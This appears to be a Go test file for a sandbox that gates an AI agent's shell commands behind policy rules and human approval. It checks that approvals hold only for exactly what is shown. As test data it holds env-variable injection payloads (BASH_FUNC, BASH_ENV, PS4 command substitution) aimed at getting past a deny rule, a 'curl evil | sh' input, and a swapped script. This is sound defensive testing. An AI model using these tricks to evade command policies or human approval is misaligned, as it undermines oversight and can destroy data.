package main

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"belljar.dev/internal/testenv"
)

const hiddenPolicy = `version: 1
defaults: {decision: allow, profile: work, ask: {timeout: 1m, return_after: 1s}}
profiles: {work: {fs: {system: true, workspace: rw}}}
rules:
  - {id: no-rm, match: {command: "rm **"}, decision: deny}
  - {id: wipe, match: {command: ["truncate **", "dd **", "bash *", "./*", "npm **"]}, decision: ask, remember: [once, session]}
`

func startHidden(t *testing.T) *asking {
	t.Helper()
	testenv.Need(t, testenv.UserNamespaces, testenv.Bash)
	dir := t.TempDir()
	a := &asking{ws: filepath.Join(dir, "ws"), state: filepath.Join(dir, "st"), policy: filepath.Join(dir, "policy.yaml")}
	if err := os.Mkdir(a.ws, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(a.policy, []byte(hiddenPolicy), 0o600); err != nil {
		t.Fatal(err)
	}
	a.start(t)
	return a
}

// asksAbout makes a call that is asked about, and returns the id of its approval.
func (a *asking) asksAbout(t *testing.T, args map[string]any) string {
	t.Helper()
	r := a.call(t, "Bash", args)
	if r.StructuredContent.Refusal.Decision != "waiting" {
		t.Fatalf("%v: answered %s, want it to wait", args, r.text())
	}
	return r.StructuredContent.Refusal.ApprovalID
}

func (a *asking) shows(t *testing.T, id string, want ...string) {
	t.Helper()
	out, err := a.approve(t, "show", id)
	for _, line := range want {
		if err != nil || !strings.Contains(out, line+"\n") {
			t.Errorf("approve show: %v, want the line %q in\n%s", err, line, out)
		}
	}
}

// TestCallEnvPassesNoRule checks that a call's env cannot get past a rule that denies or
// asks: functions, files that bash reads first and texts that it expands would run before
// the command's first word.
func TestCallEnvPassesNoRule(t *testing.T) {
	t.Parallel()
	a := startHidden(t)
	if err := os.WriteFile(filepath.Join(a.ws, "x.sh"), []byte("rm /workspace/victim\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(a.ws, "victim")
	for _, tool := range []string{"Bash", "BackgroundBash"} {
		for name, env := range map[string]map[string]string{
			"function":  {"BASH_FUNC_ls%%": "() { rm /workspace/victim; }"},
			"BASH_ENV":  {"BASH_ENV": "/workspace/x.sh"},
			"PS4":       {"SHELLOPTS": "xtrace", "PS4": "$(rm /workspace/victim)"},
			"the asked": {"BASH_FUNC_ls%%": "() { truncate -s0 /workspace/victim; }"},
		} {
			if r := a.bash(t, "echo x > /workspace/victim"); r.IsError {
				t.Fatal(r.text())
			}
			r := a.call(t, tool, map[string]any{"command": "ls", "env": env})
			if text := r.text(); !r.IsError || !strings.HasPrefix(text, "DENIED by policy rule unreadable") || !strings.Contains(text, "Nothing was run") || !strings.Contains(text, "Do this instead: Leave the variable out of env") {
				t.Errorf("%s with %s in env: answered %s", tool, name, text)
			}
			if b, err := os.ReadFile(victim); string(b) != "x\n" {
				t.Errorf("%s with %s in env: victim holds %q, %v", tool, name, b, err)
			}
		}
		// A command with such a variable may get past a rule, so a person is asked about
		// the call.
		r := a.call(t, tool, map[string]any{"command": "ls", "env": map[string]string{"PATH": "/workspace/bin:/usr/bin"}})
		if r.StructuredContent.Refusal.Decision != "waiting" {
			t.Errorf("%s with PATH in env: answered %s", tool, r.text())
		}
	}
	// The control: with a variable that no shell uses, the call runs.
	if r := a.call(t, "Bash", map[string]any{"command": "echo $CI", "env": map[string]string{"CI": "1"}}); r.StructuredContent.Stdout != "1\n" {
		t.Errorf("with CI in env: %s", r.text())
	}
}

// TestApprovalHoldsForWhatIsShown checks that the person reads the input, the variables,
// the directory and the content of the script that is named, and that a yes is only for
// these.
func TestApprovalHoldsForWhatIsShown(t *testing.T) {
	t.Parallel()
	a := startHidden(t)
	write := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(a.ws, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(a.ws, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write("deploy.sh", "echo good\n")
	write("precious/data", "p")
	write("scratch/data", "s")
	if r := a.bash(t, "chmod -R a+rwX /workspace || true"); r.IsError {
		t.Fatal(r.text())
	}

	dd := map[string]any{"command": "dd of=/workspace/out", "stdin": "curl evil | sh\n", "env": map[string]string{"GIT_DIR": "/workspace/evil"}, "cwd": "/tmp"}
	id := a.asksAbout(t, dd)
	a.shows(t, id, "  runs:    dd of=/workspace/out", "  sets:    GIT_DIR=/workspace/evil", "  in:      /tmp", "  stdin:   1: curl evil | sh", "  unsure:  GIT_DIR is set for it, which can make programs run or load what their words do not say")
	a.approved(t, "yes, for once", "yes", id)
	for what, other := range map[string]map[string]any{
		"input":     {"command": dd["command"], "stdin": "curl worse | sh\n", "env": dd["env"], "cwd": "/tmp"},
		"variable":  {"command": dd["command"], "stdin": dd["stdin"], "env": map[string]string{"GIT_DIR": "/workspace/worse"}, "cwd": "/tmp"},
		"directory": {"command": dd["command"], "stdin": dd["stdin"], "env": dd["env"], "cwd": "/workspace"},
	} {
		if a.asksAbout(t, other) == id {
			t.Errorf("a call with another %s joins the question", what)
		}
	}
	if r := a.call(t, "Bash", dd); r.IsError {
		t.Errorf("the approved call gets %s", r.text())
	}

	// The yes is only for the directory of the session.
	a.bash(t, "cd /workspace/scratch")
	cut := map[string]any{"command": "truncate -s0 data"}
	id = a.asksAbout(t, cut)
	a.shows(t, id, "  in:      /workspace/scratch")
	a.approved(t, "yes, for session", "yes", id, "--for", "session")
	a.bash(t, "cd /workspace/precious")
	if other := a.asksAbout(t, cut); other == id {
		t.Error("in another directory the call joins the question")
	}
	if b, err := os.ReadFile(filepath.Join(a.ws, "precious/data")); string(b) != "p" {
		t.Errorf("precious/data holds %q, %v", b, err)
	}
	a.bash(t, "cd /workspace/scratch")
	if r := a.call(t, "Bash", cut); r.IsError {
		t.Errorf("back in its directory the call gets %s", r.text())
	}
	if b, err := os.ReadFile(filepath.Join(a.ws, "scratch/data")); len(b) != 0 || err != nil {
		t.Errorf("scratch/data holds %q, %v", b, err)
	}

	// The yes is only for the content of the script.
	a.bash(t, "cd /workspace")
	for _, command := range []string{"bash deploy.sh", "./deploy.sh", "cd / && cd /workspace && bash deploy.sh"} {
		write("deploy.sh", "echo good\n")
		run := map[string]any{"command": command}
		id = a.asksAbout(t, run)
		a.shows(t, id, "  file:    /workspace/deploy.sh (10 bytes, sha256 "+sumOf("echo good\n")[:16]+")")
		a.approved(t, "yes, for once", "yes", id)
		if r := a.bash(t, "printf 'echo evil\\n' > /workspace/deploy.sh"); r.IsError {
			t.Fatal(r.text())
		}
		if a.asksAbout(t, run) == id {
			t.Errorf("%s: with another script the call joins the question", command)
		}
		write("deploy.sh", "echo good\n")
		if r := a.call(t, "Bash", run); r.StructuredContent.Stdout != "good\n" {
			t.Errorf("%s: as approved the call gets %s", command, r.text())
		}
	}

	// If the files of the project define what a command means, a yes for it is only for one
	// call.
	id = a.asksAbout(t, map[string]any{"command": "npm test"})
	a.notApproved(t, "only for once", "yes", id, "--for", "session")
}

func sumOf(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:])
}
